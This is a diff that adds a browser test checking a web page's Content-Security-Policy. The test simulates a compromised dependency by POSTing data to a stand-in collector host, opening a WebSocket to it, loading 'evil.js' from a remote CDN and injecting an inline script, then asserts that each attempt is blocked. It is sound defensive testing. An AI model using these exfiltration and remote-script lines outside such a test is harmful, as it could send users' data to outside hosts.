@@ -111,4 +111,73 @@ describeIfReady("standalone web page in chromium", () => {
     expect(pageBook).toEqual(cliBook);
     expect(foreign).toEqual([]);
   });
+
+  it("runs under a Content-Security-Policy that refuses remote scripts and connections", async () => {
+    // The page itself names the policy; the 'shows every screen' tests above run under it too.
+    const t = LABELS["zh-CN"];
+    const { context, page, foreign } = await openPage("zh-CN", 1280);
+    await page.evaluate(() => {
+      const seen: string[] = [];
+      (window as unknown as { cspViolations: string[] }).cspViolations = seen;
+      document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    });
+    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
+    expect(policy).toMatch(/default-src 'none'/);
+    expect(policy).toMatch(/script-src 'self'(;|$)/);
+    expect(policy).toMatch(/connect-src 'self'(;|$)/);
+    // No eval (page.evaluate itself is exempt, so this is checked on the policy; zod's own probe was refused
+    // before zod-jitless.ts) and no inline scripts.
+    expect(policy).not.toMatch(/unsafe-eval/);
+    expect(policy?.match(/script-src[^;]*/)?.[0]).not.toMatch(/unsafe-inline/);
+
+    // The whole flow works under the policy, without a single violation.
+    await page.setInputFiles("input[type=file]", sample);
+    await page.getByRole("tab", { name: t.assessTab }).click();
+    await page.getByRole("button", { name: t.start }).click();
+    await page.getByText(t.done).first().waitFor({ timeout: 60_000 });
+    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: t.download }).click()]);
+    expect(download.suggestedFilename()).toMatch(/\.xlsx$/);
+    expect(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)).toEqual([]);
+
+    // What a compromised dependency would try: upload the workbook, load a remote script, open a socket.
+    const refused: string[] = [];
+    page.on("requestfailed", (req) => refused.push(`${req.url()} ${req.failure()?.errorText ?? ""}`));
+    const attempts = await page.evaluate(async () => {
+      const outcome: Record<string, string> = {};
+      try {
+        await fetch("https://collector.example.com/upload", { method: "POST", body: "workbook" });
+        outcome.fetch = "sent";
+      } catch {
+        outcome.fetch = "blocked";
+      }
+      try {
+        const ws = new WebSocket("wss://collector.example.com/socket");
+        outcome.socket = ws.readyState === WebSocket.CLOSED ? "blocked" : "opening";
+      } catch {
+        outcome.socket = "blocked";
+      }
+      const script = document.createElement("script");
+      script.src = "https://cdn.example.com/evil.js";
+      outcome.script = await new Promise<string>((resolve) => {
+        script.onload = () => resolve("loaded");
+        script.onerror = () => resolve("blocked");
+        document.head.append(script);
+      });
+      const inline = document.createElement("script");
+      inline.textContent = "window.inlineRan = true";
+      document.head.append(inline);
+      outcome.inline = (window as unknown as { inlineRan?: boolean }).inlineRan ? "ran" : "blocked";
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      return outcome;
+    });
+    expect(attempts).toEqual({ fetch: "blocked", socket: expect.stringMatching(/blocked|opening/), script: "blocked", inline: "blocked" });
+    const violations = await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
+    for (const directive of ["connect-src https://collector.example.com/upload", "script-src-elem https://cdn.example.com/evil.js", "script-src-elem inline"])
+      expect(violations).toContain(directive);
+    expect(violations.some((v) => v.startsWith("connect-src wss://collector.example.com"))).toBe(true);
+    // Chromium announces the script request it then refuses; it never reaches the network.
+    expect(foreign).toEqual(["https://cdn.example.com/evil.js"]);
+    expect(refused).toEqual(["https://cdn.example.com/evil.js csp"]);
+    await context.close();
+  });
 });
